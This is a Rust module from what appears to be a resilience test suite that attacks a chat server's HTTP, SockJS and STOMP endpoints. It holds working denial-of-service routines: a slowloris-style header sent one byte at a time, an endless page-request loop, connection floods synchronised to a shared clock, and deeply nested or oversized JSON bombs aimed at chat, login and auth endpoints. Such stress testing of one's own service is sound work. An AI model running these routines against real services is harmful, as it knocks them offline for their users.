//! Attacks by requests: heads that do not end, pages without end, many requests in one moment, JSON that is dear to
//! parse.

use std::time::{SystemTime, UNIX_EPOCH};

use serde_json::json;
use tokio::io::AsyncWriteExt as _;
use tokio::time::{Duration, Instant, sleep, sleep_until};

use super::{Attacker, Outcome, send, write_frame};

/// How often all first requests are sent: a node waits ten seconds for them.
const ROUND: Duration = Duration::from_secs(6);

/// A head that arrives one byte every two seconds. A node waits ten seconds for it.
pub(super) async fn slow_head(attacker: &mut Attacker) -> Outcome<()> {
    let mut stream = attacker.place.open().await?;
    stream.write_all(b"GET /ws-chat HTTP/1.1\r\n").await?;
    loop {
        stream.write_all(b"x").await?;
        sleep(Duration::from_secs(2)).await;
    }
}

/// Pages as fast as they are answered.
pub(super) async fn pages(attacker: &mut Attacker) -> Outcome<()> {
    let mut stream = attacker.place.open().await?;
    for path in ["/", "/metrics", "/health", "/api/v1/openapi.json"]
        .iter()
        .cycle()
    {
        attacker
            .exchange(&mut stream, &format!("GET {path}"), b"")
            .await?;
    }
    Ok(())
}

/// A socket that is silent until the next round begins, and then asks for the metrics in the same moment as all others.
/// An attacker whose socket was refused takes part in the next round.
pub(super) async fn held_first(attacker: &mut Attacker) -> Outcome<()> {
    let since = SystemTime::now().duration_since(UNIX_EPOCH)?;
    let next = u64::try_from(since.as_millis() / ROUND.as_millis())? + 1;
    let round = ROUND * u32::try_from(next)?;
    let begins = Instant::now() + round.saturating_sub(since);
    let stream = attacker.place.open().await;
    sleep_until(begins).await;
    attacker.exchange(&mut stream?, "GET /metrics", b"").await?;
    Ok(())
}

/// JSON that nests as deeply, or lists as much, as fits.
pub(super) async fn json_bombs(attacker: &mut Attacker) -> Outcome<()> {
    const BYTES: usize = 60_000;
    let arrays = "[".repeat(BYTES);
    let objects = "{\"a\":".repeat(BYTES / 5);
    let numbers = format!("{{\"to\":[{}0]}}", "0,".repeat(BYTES / 2));
    let bombs = [arrays, objects, numbers];

    let mut session = attacker.connected().await?;
    let subscribe = b"SUBSCRIBE\nid:e\ndestination:/user/queue/errors\n\n\0";
    write_frame(&mut session.stream, subscribe).await?;
    let mut stream = attacker.place.open().await?;
    let path = format!("/ws-chat/000/{:016x}", rand::random::<u64>());
    attacker
        .exchange(&mut stream, &format!("POST {path}/xhr"), b"")
        .await?;
    for bomb in bombs.iter().cycle().take(60) {
        for destination in ["/app/chat.send", "/app/chat/message", "/app/auth.upgrade"] {
            write_frame(&mut session.stream, &send(destination, bomb)).await?;
        }
        let login = "POST /api/v1/auth/login";
        attacker
            .exchange(&mut stream, login, bomb.as_bytes())
            .await?;
        // Each string takes two quotation marks and a comma.
        let many = json!(vec![""; attacker.request_bytes / 3 - 1]).to_string();
        let push = format!("POST {path}/xhr_send");
        attacker
            .exchange(&mut stream, &push, many.as_bytes())
            .await?;
    }
    Ok(())
}
